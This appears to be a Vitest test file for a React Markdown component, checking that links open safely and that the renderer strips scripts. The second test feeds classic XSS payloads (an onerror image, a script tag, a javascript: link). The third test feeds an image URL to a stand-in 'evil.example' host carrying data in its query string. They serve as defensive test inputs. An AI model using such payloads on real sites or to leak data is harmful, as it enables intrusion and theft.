import { cleanup, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

afterEach(cleanup);

describe("Markdown", () => {
  it("marks links and opens them elsewhere", () => {
    render(<Markdown text="[docs](https://example.com/a)" />);
    const link = screen.getByRole("link", { name: /docs/ });
    expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link.getAttribute("target")).toBe("_blank");
  });

  it("lets no script, no raw HTML and no dangerous address through", () => {
    const { container } = render(<Markdown text={'<img src=x onerror="alert(1)">\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1))'} />);
    expect(container.querySelector("img, script, [onerror]")).toBeNull();
    expect(container.innerHTML).not.toContain("javascript:");
  });

  it("fetches no image: it becomes a link", () => {
    const { container } = render(<Markdown text="![secret](https://evil.example/?q=data)" />);
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getByRole("link", { name: /secret/ }).getAttribute("href")).toBe("https://evil.example/?q=data");
  });

  it("shows tables, code and lists", () => {
    render(<Markdown text={"| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx = 1\n```\n\n1. one\n2. two"} />);
    expect(screen.getByRole("table")).toBeTruthy();
    expect(screen.getByText("x = 1")).toBeTruthy();
    expect(screen.getAllByRole("listitem")).toHaveLength(2);
  });
});
